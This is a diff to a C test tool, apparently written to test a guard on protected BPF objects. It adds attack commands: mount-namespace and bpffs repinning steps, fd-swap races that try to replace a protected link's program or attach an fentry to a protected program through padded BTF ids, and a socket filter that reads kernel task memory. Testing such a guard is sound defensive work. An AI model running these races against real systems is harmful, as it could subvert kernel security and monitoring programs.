@@ -32,6 +32,35 @@
 //   bpfmap keyctl-clear KEYRING  -> KEYCTL_CLEAR of keyring serial KEYRING
 //   bpfmap load-own TYPE DERFILE SIG -> root's own certificate: add DERFILE to this process's
 //                                   session keyring, then `load TYPE SIG session`
+//   bpfmap keyctl-invalidate KEYRING -> KEYCTL_INVALIDATE of keyring serial KEYRING
+//   bpfmap keyctl-describe KEYRING -> KEYCTL_DESCRIBE: prints the description, or the errno
+//   bpfmap read-task             -> an unsigned socket filter that reads its own task_struct
+//                                   (bpf_get_current_task, bpf_probe_read_kernel of tgid at its
+//                                   BTF offset), run once with BPF_PROG_TEST_RUN: "ok tgid=N"
+//                                   when the value read is this process's pid
+// And, for issue 22's attacks (the same "ok" / errno convention):
+//   bpfmap steps STEP...         -> mount-namespace steps in order, stopping at the first
+//                                   failure (each step's result on stderr): shared:P, rshared:P,
+//                                   private:P (propagation), unshare (CLONE_NEWNS alone: the
+//                                   new namespace keeps the propagation), lazy:P / umount:P (umount2),
+//                                   tmpfs:P / bpffs:P (a new mount), rbind:S:D, bind:S:D,
+//                                   move:S:D, mkdir:P, repin:S:D (BPF_OBJ_GET every pin under S,
+//                                   BPF_OBJ_PIN it at the same place under D, directories made)
+//   bpfmap race-update fd|objget|byid PINNED_LINK SECONDS
+//                                -> thread A loops BPF_LINK_UPDATE(link_fd=N, own iter/task
+//                                   program) while thread B dup2s the protected link (got
+//                                   before the race, by BPF_OBJ_GET or BPF_LINK_GET_FD_BY_ID in
+//                                   the race) and the attacker's own iter/task link into N:
+//                                   "ok" when the pinned link's program id changed, "EPERM"
+//                                   when it did not and the guard refused attempts, "NOHIT"
+//   bpfmap race-attach PINNED_LINK SECONDS
+//                                -> thread A loops BPF_PROG_LOAD of an fentry program with
+//                                   attach_prog_fd=N and the btf id of the linked program's
+//                                   main function, which the attacker's own socket filter has
+//                                   too (its BTF padded to the same id), while B dup2s the
+//                                   target and the harmless program into N: "ok" when a loaded
+//                                   fentry's attach_btf_obj_id is the target's BTF (then it is
+//                                   also attached: the result on stderr)
 #define _GNU_SOURCE
 #include <errno.h>
 #include <linux/bpf.h>
@@ -40,6 +69,11 @@
 #include <stdlib.h>
 #include <string.h>
 #include <fcntl.h>
+#include <dirent.h>
+#include <pthread.h>
+#include <sched.h>
+#include <sys/stat.h>
+#include <time.h>
 #include <sys/mount.h>
 #include <sys/syscall.h>
 #include <unistd.h>
@@ -166,7 +200,7 @@ static void ret_insns(struct bpf_insn *i, int imm)
 	i[1].code = BPF_JMP | BPF_EXIT;
 }
 
-static char verifier_log[65536];
+static char verifier_log[65536], verifier_log_copy[65536];
 
 static int prog_load(int type, int eat, int btf_id, int target_fd, struct bpf_insn *insns, int n)
 {
@@ -188,7 +222,9 @@ static int prog_load(int type, int eat, int btf_id, int target_fd, struct bpf_in
 	if (fd < 0 && verifier_log[0]) {
 		/* the verifier's reason: the last line before its "processed N insns" summary */
 		int e = errno;
-		char *line = strtok(verifier_log, "\n"), *why = NULL;
+		char *line, *why = NULL;
+		memcpy(verifier_log_copy, verifier_log, sizeof(verifier_log));
+		line = strtok(verifier_log, "\n");
 		for (; line; line = strtok(NULL, "\n"))
 			if (strncmp(line, "processed ", 10) && strncmp(line, "verification time", 17))
 				why = line;
@@ -208,29 +244,34 @@ static int attach_tracing(int prog)
 	return sys_bpf(BPF_RAW_TRACEPOINT_OPEN, &attr);
 }
 
-/* The BTF id of the FUNC named NAME in /sys/kernel/btf/vmlinux, or -1. */
-static int vmlinux_func(const char *name)
+/* The BTF id of the type of KIND named NAME in /sys/kernel/btf/vmlinux, or -1; with MEMBER (a
+ * STRUCT), the byte offset of that member instead. */
+static int vmlinux_type(uint32_t want_kind, const char *name, const char *member)
 {
 	static unsigned char buf[16 << 20];
 	struct { uint16_t magic; uint8_t ver, flags; uint32_t hdr_len, type_off, type_len, str_off, str_len; } h;
-	size_t len = 0;
+	static size_t len;
 	ssize_t r;
 	uint32_t off, end, id = 1;
-	int fd = open("/sys/kernel/btf/vmlinux", O_RDONLY);
-	if (fd < 0)
-		return -1;
-	while ((r = read(fd, buf + len, sizeof(buf) - len)) > 0)
-		len += r;
-	close(fd);
+	const char *strs;
+	if (!len) {
+		int fd = open("/sys/kernel/btf/vmlinux", O_RDONLY);
+		if (fd < 0)
+			return -1;
+		while ((r = read(fd, buf + len, sizeof(buf) - len)) > 0)
+			len += r;
+		close(fd);
+	}
 	if (len < sizeof(h))
 		return -1;
 	memcpy(&h, buf, sizeof(h));
 	if (h.magic != 0xeb9f || (size_t)h.hdr_len + h.str_off + h.str_len > len)
 		return -1;
+	strs = (char *)buf + h.hdr_len + h.str_off;
 	off = h.hdr_len + h.type_off;
 	end = off + h.type_len;
 	while (off + 12 <= end) {
-		uint32_t name_off, info, kind, vlen, extra = 0;
+		uint32_t name_off, info, kind, vlen, extra = 0, i;
 		memcpy(&name_off, buf + off, 4);
 		memcpy(&info, buf + off + 4, 4);
 		kind = (info >> 24) & 0x1f;
@@ -241,13 +282,28 @@ static int vmlinux_func(const char *name)
 		case 4: case 5: case 15: case 19: extra = 12 * vlen; break;  /* STRUCT, UNION, DATASEC, ENUM64 */
 		case 6: case 13: extra = 8 * vlen; break;                    /* ENUM, FUNC_PROTO */
 		}
-		if (kind == 12 && name_off < h.str_len &&
-		    !strcmp((char *)buf + h.hdr_len + h.str_off + name_off, name))
-			return id;
+		if (kind == want_kind && name_off < h.str_len && !strcmp(strs + name_off, name)) {
+			if (!member)
+				return id;
+			for (i = 0; i < vlen; i++) {
+				uint32_t m[3];
+				memcpy(m, buf + off + 12 + 12 * i, 12);
+				if (m[0] < h.str_len && !strcmp(strs + m[0], member))
+					/* kind_flag: bitfield size in the top 8 bits of the offset */
+					return (int)(((info >> 31) ? (m[2] & 0xffffff) : m[2]) / 8);
+			}
+			return -1;
+		}
 		off += 12 + extra;
 		id++;
 	}
 	return -1;
+}
+
+/* The BTF id of the FUNC named NAME in /sys/kernel/btf/vmlinux, or -1. */
+static int vmlinux_func(const char *name)
+{
+	return vmlinux_type(12, name, NULL);
 }
 
 static int attack_cmd(int argc, char **argv)
@@ -394,6 +450,17 @@ static int signed_cmd(int argc, char **argv)
 	}
 	if (!strcmp(argv[1], "keyctl-clear"))
 		return report(syscall(__NR_keyctl, 7 /* KEYCTL_CLEAR */, keyring_arg(argv[2])));
+	if (!strcmp(argv[1], "keyctl-invalidate"))
+		return report(syscall(__NR_keyctl, 21 /* KEYCTL_INVALIDATE */, keyring_arg(argv[2])));
+	if (!strcmp(argv[1], "keyctl-describe")) {
+		char desc[512];
+		long r = syscall(__NR_keyctl, 6 /* KEYCTL_DESCRIBE */, keyring_arg(argv[2]), desc, sizeof(desc) - 1);
+		if (r < 0)
+			return report(r);
+		desc[sizeof(desc) - 1] = 0;
+		printf("%s\n", desc);
+		return 0;
+	}
 	if (!strcmp(argv[1], "load-own")) {
 		int n = read_file(argv[3], der, sizeof(der));
 		long r;
@@ -448,6 +515,543 @@ static int signed_cmd(int argc, char **argv)
 	}
 }
 
+
+/* ---- issue 22: mount namespaces, fd races, kernel reads -------------------- */
+
+static const char *errname(int e)
+{
+	return strerrorname_np(e) ? strerrorname_np(e) : strerror(e);
+}
+
+/* Print "WHAT: ERRNO" on stderr, keep errno, return -1. */
+static int fail_errno(const char *what)
+{
+	int e = errno;
+	fprintf(stderr, "%s: %s\n", what, errname(e));
+	errno = e;
+	return -1;
+}
+
+static int obj_pin(int fd, const char *path)
+{
+	union bpf_attr attr;
+	memset(&attr, 0, sizeof(attr));
+	attr.pathname = (uint64_t)(unsigned long)path;
+	attr.bpf_fd = fd;
+	return sys_bpf(BPF_OBJ_PIN, &attr);
+}
+
+/* BPF_OBJ_GET every pin under SRC (read-write, else read-only), BPF_OBJ_PIN it at the same
+ * place under DST; directories are made. */
+static int repin(const char *src, const char *dst, int *count)
+{
+	DIR *d = opendir(src);
+	struct dirent *e;
+	char s[4096], t[4096];
+	int rc = 0, err = 0;
+	if (!d)
+		return fail_errno(src);
+	while (!rc && (e = readdir(d))) {
+		struct stat st;
+		if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
+			continue;
+		snprintf(s, sizeof(s), "%s/%s", src, e->d_name);
+		snprintf(t, sizeof(t), "%s/%s", dst, e->d_name);
+		if (lstat(s, &st) < 0) {
+			rc = fail_errno(s);
+		} else if (S_ISDIR(st.st_mode)) {
+			if (mkdir(t, 0700) < 0 && errno != EEXIST)
+				rc = fail_errno(t);
+			else
+				rc = repin(s, t, count);
+		} else if (!S_ISREG(st.st_mode)) {
+			fprintf(stderr, "%s: not a pin, skipped\n", s);
+		} else {
+			int fd = obj_get(s, 0), e1 = errno;
+			if (fd < 0)
+				fd = obj_get(s, BPF_F_RDONLY);
+			if (fd < 0) {
+				errno = e1;
+				rc = fail_errno(s);
+			} else {
+				if (obj_pin(fd, t) < 0)
+					rc = fail_errno(t);
+				else
+					(*count)++;
+				close(fd);
+			}
+		}
+		err = errno;
+	}
+	closedir(d);
+	errno = err;
+	return rc;
+}
+
+static int steps_cmd(int argc, char **argv)
+{
+	int i;
+	for (i = 2; i < argc; i++) {
+		char buf[4096], *op = buf, *a, *b = NULL;
+		long rc;
+		int n = 0, e;
+		snprintf(buf, sizeof(buf), "%s", argv[i]);
+		a = strchr(op, ':');
+		if (a) {
+			*a++ = 0;
+			b = strchr(a, ':');
+			if (b)
+				*b++ = 0;
+		}
+		if (!strcmp(op, "unshare"))
+			rc = unshare(CLONE_NEWNS);
+		else if (!a)
+			rc = -2;
+		else if (!strcmp(op, "shared"))
+			rc = mount(NULL, a, NULL, MS_SHARED, NULL);
+		else if (!strcmp(op, "private"))
+			rc = mount(NULL, a, NULL, MS_PRIVATE, NULL);
+		else if (!strcmp(op, "rshared"))
+			rc = mount(NULL, a, NULL, MS_SHARED | MS_REC, NULL);
+		else if (!strcmp(op, "lazy"))
+			rc = umount2(a, MNT_DETACH);
+		else if (!strcmp(op, "umount"))
+			rc = umount2(a, 0);
+		else if (!strcmp(op, "tmpfs"))
+			rc = mount("tmpfs", a, "tmpfs", 0, NULL);
+		else if (!strcmp(op, "bpffs"))
+			rc = mount("bpf", a, "bpf", 0, NULL);
+		else if (!strcmp(op, "mkdir"))
+			rc = (mkdir(a, 0755) < 0 && errno != EEXIST) ? -1 : 0;
+		else if (!b)
+			rc = -2;
+		else if (!strcmp(op, "rbind"))
+			rc = mount(a, b, NULL, MS_BIND | MS_REC, NULL);
+		else if (!strcmp(op, "bind"))
+			rc = mount(a, b, NULL, MS_BIND, NULL);
+		else if (!strcmp(op, "move"))
+			rc = mount(a, b, NULL, MS_MOVE, NULL);
+		else if (!strcmp(op, "repin")) {
+			rc = repin(a, b, &n);
+			e = errno;
+			fprintf(stderr, "repinned %d\n", n);
+			errno = e;
+		} else
+			rc = -2;
+		if (rc == -2) {
+			fprintf(stderr, "step %s: unknown or incomplete\n", argv[i]);
+			return 2;
+		}
+		e = errno;
+		fprintf(stderr, "step %s: %s\n", argv[i], rc < 0 ? errname(e) : "ok");
+		if (rc < 0) {
+			errno = e;
+			return report(-1);
+		}
+	}
+	return report(0);
+}
+
+/* What the two threads of a race share. N: the fd number both race on. */
+#define RACE_N 100
+#define RACE_MAX 200000
+static volatile int race_stop;
+static int race_prot = -1, race_harmless = -1, race_variant; /* 0: fd, 1: objget, 2: byid */
+static const char *race_pin;
+static uint32_t race_link_id;
+static long race_swaps, race_get_fail, race_iters, race_ok, race_eperm, race_other;
+static int race_get_errno, race_other_errno, race_win_fd = -1;
+static uint32_t race_target_btf;
+
+/* Thread B: the protected object, then the harmless one, into fd N. */
+static void *race_swapper(void *unused)
+{
+	(void)unused;
+	while (!race_stop) {
+		int fd = race_prot;
+		if (race_variant == 1) {
+			fd = obj_get(race_pin, 0);
+		} else if (race_variant == 2) {
+			union bpf_attr a;
+			memset(&a, 0, sizeof(a));
+			a.link_id = race_link_id;
+			fd = sys_bpf(BPF_LINK_GET_FD_BY_ID, &a);
+		}
+		if (fd >= 0) {
+			dup2(fd, RACE_N);
+			if (fd != race_prot)
+				close(fd);
+		} else {
+			race_get_fail++;
+			race_get_errno = errno;
+		}
+		dup2(race_harmless, RACE_N);
+		race_swaps++;
+	}
+	return NULL;
+}
+
+static void race_count(long rc)
+{
+	if (rc >= 0)
+		race_ok++;
+	else if (errno == EPERM)
+		race_eperm++;
+	else {
+		race_other++;
+		race_other_errno = errno;
+	}
+}
+
+/* Thread A of race-update: BPF_LINK_UPDATE of fd N with the attacker's program. */
+static void *race_updater(void *p)
+{
+	int prog = *(int *)p;
+	long i;
+	for (i = 0; !race_stop && i < RACE_MAX; i++) {
+		union bpf_attr a;
+		memset(&a, 0, sizeof(a));
+		a.link_update.link_fd = RACE_N;
+		a.link_update.new_prog_fd = prog;
+		race_count(sys_bpf(BPF_LINK_UPDATE, &a));
+	}
+	race_iters = i;
+	race_stop = 1;
+	return NULL;
+}
+
+static int link_info(int fd, struct bpf_link_info *li)
+{
+	union bpf_attr attr;
+	memset(li, 0, sizeof(*li));
+	memset(&attr, 0, sizeof(attr));
+	attr.info.bpf_fd = fd;
+	attr.info.info_len = sizeof(*li);
+	attr.info.info = (uint64_t)(unsigned long)li;
+	return sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &attr);
+}
+
+static int prog_info(int fd, struct bpf_prog_info *pi, void *func_info, uint32_t nr)
+{
+	union bpf_attr attr;
+	memset(pi, 0, sizeof(*pi));
+	if (nr) {
+		pi->nr_func_info = nr;
+		pi->func_info_rec_size = 8;
+		pi->func_info = (uint64_t)(unsigned long)func_info;
+	}
+	memset(&attr, 0, sizeof(attr));
+	attr.info.bpf_fd = fd;
+	attr.info.info_len = sizeof(*pi);
+	attr.info.info = (uint64_t)(unsigned long)pi;
+	return sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &attr);
+}
+
+/* The program id of link ID now (0: the link is gone). */
+static uint32_t link_prog_now(uint32_t id)
+{
+	union bpf_attr a;
+	struct bpf_link_info li;
+	int fd;
+	memset(&a, 0, sizeof(a));
+	a.link_id = id;
+	fd = sys_bpf(BPF_LINK_GET_FD_BY_ID, &a);
+	if (fd < 0)
+		return 0;
+	if (link_info(fd, &li) < 0)
+		li.prog_id = 0;
+	close(fd);
+	return li.prog_id;
+}
+
+static void race_wait(int secs, uint32_t link_id, uint32_t before)
+{
+	struct timespec t0, t;
+	clock_gettime(CLOCK_MONOTONIC, &t0);
+	for (;;) {
+		usleep(20000);
+		clock_gettime(CLOCK_MONOTONIC, &t);
+		if (race_stop || t.tv_sec - t0.tv_sec >= secs)
+			break;
+		/* (a guard may refuse the look from this now shared fd table: 0, keep racing) */
+		if (link_id) {
+			uint32_t now = link_prog_now(link_id);
+			if (now && now != before)
+				break;
+		}
+	}
+	race_stop = 1;
+}
+
+static int race_update_cmd(const char *variant, const char *pin, int secs)
+{
+	union bpf_attr attr;
+	struct bpf_link_info li;
+	struct bpf_insn insns[2];
+	pthread_t ta, tb;
+	uint32_t before, after = 0;
+	int id, prog, own, prot, i;
+
+	race_variant = !strcmp(variant, "objget") ? 1 : !strcmp(variant, "byid") ? 2 : 0;
+	race_pin = pin;
+	prot = obj_get(pin, 0);
+	if (prot < 0)
+		return report(fail_errno("get the protected link"));
+	if (link_info(prot, &li) < 0)
+		return report(fail_errno("link info"));
+	race_link_id = li.id;
+	before = li.prog_id;
+	if (race_variant)
+		close(prot); /* thread B gets its own, in the race */
+	else
+		race_prot = prot;
+	/* the attacker's own iter/task program and link: updating that one is harmless */
+	id = vmlinux_func("bpf_iter_task");
+	if (id < 0) {
+		printf("ENOENT\n");
+		return 1;
+	}
+	ret_insns(insns, 0);
+	prog = prog_load(BPF_PROG_TYPE_TRACING, BPF_TRACE_ITER, id, 0, insns, 2);
+	if (prog < 0)
+		return report(fail_errno("load the attacker's iter/task program"));
+	memset(&attr, 0, sizeof(attr));
+	attr.link_create.prog_fd = prog;
+	attr.link_create.attach_type = BPF_TRACE_ITER;
+	own = sys_bpf(BPF_LINK_CREATE, &attr);
+	if (own < 0)
+		return report(fail_errno("create the attacker's iter link"));
+	race_harmless = own;
+	dup2(own, RACE_N);
+	pthread_create(&tb, NULL, race_swapper, NULL);
+	pthread_create(&ta, NULL, race_updater, &prog);
+	race_wait(secs, race_link_id, before);
+	pthread_join(ta, NULL);
+	pthread_join(tb, NULL);
+	/* the threads' exit releases the shared fd table a little after the joins return */
+	for (i = 0; i < 40 && !(after = link_prog_now(race_link_id)); i++)
+		usleep(50000);
+	if (!after) {
+		fprintf(stderr, "race-update variant=%s: cannot read link %u's program after the race: %s\n",
+			variant, race_link_id, errname(errno));
+		printf("EUNKNOWN\n");
+		return 1;
+	}
+	fprintf(stderr, "race-update variant=%s link_id=%u prog_id %u -> %u iterations=%ld updates_ok=%ld "
+		"EPERM=%ld other=%ld(%s) swaps=%ld get_failed=%ld(%s)\n", variant, race_link_id, before,
+		after, race_iters, race_ok, race_eperm, race_other,
+		race_other ? errname(race_other_errno) : "-", race_swaps, race_get_fail,
+		race_get_fail ? errname(race_get_errno) : "-");
+	if (after != before) {
+		printf("ok\n");
+		return 0;
+	}
+	printf("%s\n", race_eperm || race_get_errno == EPERM ? "EPERM" : "NOHIT");
+	return 1;
+}
+
+/* BTF whose FUNC "harmless" (int harmless(int x)) has type id FID: ids 2..FID-2 are padding. */
+static int load_padded_btf(uint32_t fid)
+{
+	static uint32_t b[(24 + 16 + 12 * 70000 + 20 + 12 + 16) / 4 + 1];
+	static const char strs[] = "\0int\0x\0harmless";
+	union bpf_attr attr;
+	uint32_t *t = b + 6, i, type_len;
+	if (fid < 3 || fid > 70000)
+		return -1;
+	*t++ = 1, *t++ = 1u << 24, *t++ = 4, *t++ = (1u << 24) | 32;  /* 1: int */
+	for (i = 2; i <= fid - 2; i++)
+		*t++ = 0, *t++ = 2u << 24, *t++ = 1;                    /* PTR -> int */
+	*t++ = 0, *t++ = (13u << 24) | 1, *t++ = 1, *t++ = 5, *t++ = 1; /* int (int x) */
+	*t++ = 7, *t++ = 12u << 24, *t++ = fid - 1;                     /* FUNC harmless */
+	type_len = (uint32_t)((t - (b + 6)) * 4);
+	memcpy(t, strs, sizeof(strs));
+	b[0] = 0xeb9f | (1u << 16);  /* magic, version 1, flags 0 */
+	b[1] = 24;                   /* hdr_len */
+	b[2] = 0, b[3] = type_len;   /* type_off, type_len */
+	b[4] = type_len, b[5] = sizeof(strs);
+	memset(&attr, 0, sizeof(attr));
+	attr.btf = (uint64_t)(unsigned long)b;
+	attr.btf_size = 24 + type_len + sizeof(strs);
+	attr.btf_log_buf = (uint64_t)(unsigned long)verifier_log;
+	attr.btf_log_size = sizeof(verifier_log);
+	attr.btf_log_level = 1;
+	verifier_log[0] = 0;
+	i = sys_bpf(BPF_BTF_LOAD, &attr);
+	if ((int)i < 0 && verifier_log[0])
+		fprintf(stderr, "btf: %.300s\n", verifier_log);
+	return (int)i;
+}
+
+/* Thread A of race-attach: fentry loads aimed at fd N. */
+static void *race_loader(void *p)
+{
+	uint32_t fid = *(uint32_t *)p;
+	struct bpf_insn insns[2];
+	long i;
+	ret_insns(insns, 0);
+	for (i = 0; !race_stop && i < RACE_MAX; i++) {
+		union bpf_attr a;
+		struct bpf_prog_info pi;
+		int fd;
+		memset(&a, 0, sizeof(a));
+		a.prog_type = BPF_PROG_TYPE_TRACING;
+		a.expected_attach_type = BPF_TRACE_FENTRY;
+		a.attach_btf_id = fid;
+		a.attach_prog_fd = RACE_N;
+		a.insns = (uint64_t)(unsigned long)insns;
+		a.insn_cnt = 2;
+		a.license = (uint64_t)(unsigned long)"GPL";
+		fd = sys_bpf(BPF_PROG_LOAD, &a);
+		race_count(fd);
+		if (fd < 0)
+			continue;
+		if (prog_info(fd, &pi, NULL, 0) == 0 && pi.attach_btf_obj_id == race_target_btf) {
+			race_win_fd = fd;
+			i++;
+			break;
+		}
+		close(fd);
+	}
+	race_iters = i;
+	race_stop = 1;
+	return NULL;
+}
+
+static int race_attach_cmd(const char *pin, int secs)
+{
+	union bpf_attr attr;
+	struct bpf_link_info li;
+	struct bpf_prog_info pi;
+	struct { uint32_t insn_off, type_id; } fi[1] = { { 0, 0 } }, hfi[1];
+	struct bpf_insn insns[2];
+	pthread_t ta, tb;
+	uint32_t fid, own_btf;
+	int link = obj_get(pin, 0), target, btf, harmless;
+
+	if (link < 0)
+		return report(fail_errno("get the target's link"));
+	if (link_info(link, &li) < 0)
+		return report(fail_errno("link info"));
+	close(link);
+	memset(&attr, 0, sizeof(attr));
+	attr.prog_id = li.prog_id;
+	target = sys_bpf(BPF_PROG_GET_FD_BY_ID, &attr);
+	if (target < 0)
+		return report(fail_errno("BPF_PROG_GET_FD_BY_ID of the target"));
+	if (prog_info(target, &pi, fi, 1) < 0)
+		return report(fail_errno("target info"));
+	fid = fi[0].type_id;
+	race_target_btf = pi.btf_id;
+	if (!fid || !pi.btf_id) {
+		fprintf(stderr, "target program %u: func btf id %u, btf %u\n", li.prog_id, fid, pi.btf_id);
+		printf("ENODATA\n");
+		return 1;
+	}
+	/* the attacker's own socket filter, its main function at the same BTF id */
+	btf = load_padded_btf(fid);
+	if (btf < 0)
+		return report(fail_errno("load the padded BTF"));
+	ret_insns(insns, 0);
+	hfi[0].insn_off = 0, hfi[0].type_id = fid;
+	memset(&attr, 0, sizeof(attr));
+	attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
+	attr.insns = (uint64_t)(unsigned long)insns;
+	attr.insn_cnt = 2;
+	attr.license = (uint64_t)(unsigned long)"GPL";
+	attr.prog_btf_fd = btf;
+	attr.func_info_rec_size = 8;
+	attr.func_info = (uint64_t)(unsigned long)hfi;
+	attr.func_info_cnt = 1;
+	attr.log_buf = (uint64_t)(unsigned long)verifier_log;
+	attr.log_size = sizeof(verifier_log);
+	attr.log_level = 1;
+	harmless = sys_bpf(BPF_PROG_LOAD, &attr);
+	if (harmless < 0) {
+		fprintf(stderr, "verifier: %.300s\n", verifier_log);
+		return report(fail_errno("load the harmless socket filter"));
+	}
+	if (prog_info(harmless, &pi, NULL, 0) < 0)
+		return report(fail_errno("harmless info"));
+	own_btf = pi.btf_id;
+	race_prot = target;
+	race_harmless = harmless;
+	race_variant = 0;
+	dup2(harmless, RACE_N);
+	pthread_create(&tb, NULL, race_swapper, NULL);
+	pthread_create(&ta, NULL, race_loader, &fid);
+	race_wait(secs, 0, 0);
+	pthread_join(ta, NULL);
+	pthread_join(tb, NULL);
+	fprintf(stderr, "race-attach target_prog=%u target_btf=%u own_btf=%u func_btf_id=%u iterations=%ld "
+		"loads_ok=%ld EPERM=%ld other=%ld(%s) swaps=%ld won=%s\n", li.prog_id, race_target_btf,
+		own_btf, fid, race_iters, race_ok, race_eperm, race_other,
+		race_other ? errname(race_other_errno) : "-", race_swaps, race_win_fd >= 0 ? "yes" : "no");
+	if (race_win_fd >= 0) {
+		long a = attach_tracing(race_win_fd);
+		fprintf(stderr, "a loaded fentry on the target program: attach %s\n", a < 0 ? errname(errno) : "ok");
+		printf("ok\n");
+		return 0;
+	}
+	printf("%s\n", race_eperm ? "EPERM" : "NOHIT");
+	return 1;
+}
+
+/* An unsigned socket filter reading its own task_struct's tgid (bpf_get_current_task,
+ * bpf_probe_read_kernel: CAP_PERFMON helpers), run once with BPF_PROG_TEST_RUN. */
+static int read_task_cmd(void)
+{
+	union bpf_attr attr;
+	unsigned char pkt[64];
+	int off = vmlinux_type(4, "task_struct", "tgid"), fd;
+	struct bpf_insn in[9];
+	if (off < 0) {
+		fprintf(stderr, "no task_struct.tgid in /sys/kernel/btf/vmlinux\n");
+		printf("ENOENT\n");
+		return 1;
+	}
+	memset(in, 0, sizeof(in));
+	in[0].code = BPF_JMP | BPF_CALL, in[0].imm = 35;                           /* get_current_task */
+	in[1].code = BPF_ALU64 | BPF_MOV | BPF_X, in[1].dst_reg = 3, in[1].src_reg = 0;
+	in[2].code = BPF_ALU64 | BPF_ADD | BPF_K, in[2].dst_reg = 3, in[2].imm = off; /* &task->tgid */
+	in[3].code = BPF_ALU64 | BPF_MOV | BPF_X, in[3].dst_reg = 1, in[3].src_reg = 10;
+	in[4].code = BPF_ALU64 | BPF_ADD | BPF_K, in[4].dst_reg = 1, in[4].imm = -8;
+	in[5].code = BPF_ALU64 | BPF_MOV | BPF_K, in[5].dst_reg = 2, in[5].imm = 4;
+	in[6].code = BPF_JMP | BPF_CALL, in[6].imm = 113;                          /* probe_read_kernel */
+	in[7].code = BPF_LDX | BPF_MEM | BPF_W, in[7].dst_reg = 0, in[7].src_reg = 10, in[7].off = -8;
+	in[8].code = BPF_JMP | BPF_EXIT;
+	fd = prog_load(BPF_PROG_TYPE_SOCKET_FILTER, 0, 0, 0, in, 9);
+	if (fd < 0) {
+		int e = errno;
+		/* prog_load printed the verifier's last line; its first, and what it said of the helper */
+		char *line = strtok(verifier_log_copy, "\n");
+		if (line)
+			fprintf(stderr, "verifier first line: %.200s\n", line);
+		for (; line; line = strtok(NULL, "\n"))
+			if (strstr(line, "unknown func") || strstr(line, "invalid func") ||
+			    strstr(line, "cannot use helper"))
+				fprintf(stderr, "verifier: %.200s\n", line);
+		errno = e;
+		return report(fd);
+	}
+	memset(pkt, 0, sizeof(pkt));
+	memset(&attr, 0, sizeof(attr));
+	attr.test.prog_fd = fd;
+	attr.test.data_in = (uint64_t)(unsigned long)pkt;
+	attr.test.data_size_in = sizeof(pkt);
+	attr.test.repeat = 1;
+	if (sys_bpf(BPF_PROG_TEST_RUN, &attr) < 0) {
+		printf("loaded, test run: %s\n", errname(errno));
+		return 1;
+	}
+	if (attr.test.retval != (uint32_t)getpid()) {
+		printf("loaded, read tgid=%u at offset %d, pid=%d\n", attr.test.retval, off, (int)getpid());
+		return 1;
+	}
+	printf("ok tgid=%u (task_struct.tgid at %d)\n", attr.test.retval, off);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	union bpf_attr attr;
@@ -467,10 +1071,19 @@ int main(int argc, char **argv)
 		return attack_cmd(argc, argv);
 	if ((argc == 3 || argc == 5) && !strcmp(argv[1], "load"))
 		return signed_cmd(argc, argv);
-	if ((argc == 3 && (!strcmp(argv[1], "keyring") || !strcmp(argv[1], "keyctl-clear"))) ||
+	if ((argc == 3 && (!strcmp(argv[1], "keyring") || !strcmp(argv[1], "keyctl-clear") ||
+			   !strcmp(argv[1], "keyctl-invalidate") || !strcmp(argv[1], "keyctl-describe"))) ||
 	    (argc == 4 && !strcmp(argv[1], "addkey")) ||
 	    (argc == 5 && !strcmp(argv[1], "load-own")))
 		return signed_cmd(argc, argv);
+	if (argc >= 3 && !strcmp(argv[1], "steps"))
+		return steps_cmd(argc, argv);
+	if (argc == 5 && !strcmp(argv[1], "race-update"))
+		return race_update_cmd(argv[2], argv[3], atoi(argv[4]));
+	if (argc == 4 && !strcmp(argv[1], "race-attach"))
+		return race_attach_cmd(argv[2], atoi(argv[3]));
+	if (argc == 2 && !strcmp(argv[1], "read-task"))
+		return read_task_cmd();
 	if (argc == 3 && !strcmp(argv[1], "open-rw"))
 		return report(obj_get(argv[2], 0));
 	if (argc == 3 && !strcmp(argv[1], "open-ro"))
